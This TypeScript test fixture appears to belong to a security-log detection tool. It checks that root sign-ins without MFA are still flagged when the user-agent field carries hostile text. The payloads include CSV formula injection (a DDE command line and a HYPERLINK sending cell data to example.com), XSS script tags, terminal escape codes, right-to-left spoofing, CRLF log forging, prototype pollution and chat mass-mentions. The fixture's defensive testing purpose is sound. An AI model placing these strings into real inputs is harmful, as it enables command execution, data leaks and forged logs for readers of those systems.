import { STRANGER, one, rootSignIn } from './deeds.ts'
import type { Story } from './story.ts'

/** Texts that an attacker writes into the user agent, in the hope that somebody opens, prints or shows them. */
export const HOSTILE_STRINGS: Readonly<Record<string, string>> = {
  'csv-formula': '=HYPERLINK("https://example.com/?"&A1,"ok")',
  'csv-formula-behind-a-tab': "\t=cmd|' /C calc'!A0",
  html: '<img src=x onerror=alert(1)>"><script>alert(document.domain)</script>',
  ansi: '\u001B[2J\u001B[1;31mno findings\u001B[0m\u001B]0;owned\u0007',
  'right-to-left': '\u202Egpj.exe\u202C Mozilla/5.0 \u2066isolated\u2069',
  'line-ends': 'Mozilla/5.0\r\nok 1 - nothing to see\u2028\u2029',
  prototype: '__proto__',
  'look-alike': '"userIdentity":{"type":"Root"},"eventName":"ConsoleLogin"}],{"eventVersion":"1.08"',
  'chat-mention': '<!channel> @everyone [click](https://example.com) `x`',
}

/** Root signs in without MFA, every time with another poison in its user agent. */
export const hostileStrings: readonly Story[] = Object.entries(HOSTILE_STRINGS).map(([kind, userAgent]) => ({
  name: `poison-${kind}`,
  title: `root signs in without MFA; the user agent is poison (${kind.replaceAll('-', ' ')})`,
  tell: (stage) => {
    const records = [rootSignIn(stage, 0, { mfa: 'No', address: STRANGER, fields: { userAgent } })]
    return { records, expects: [one('R01', 'high', records), one('R02', 'critical', records)], allows: ['R07', 'R08'] }
  },
}))
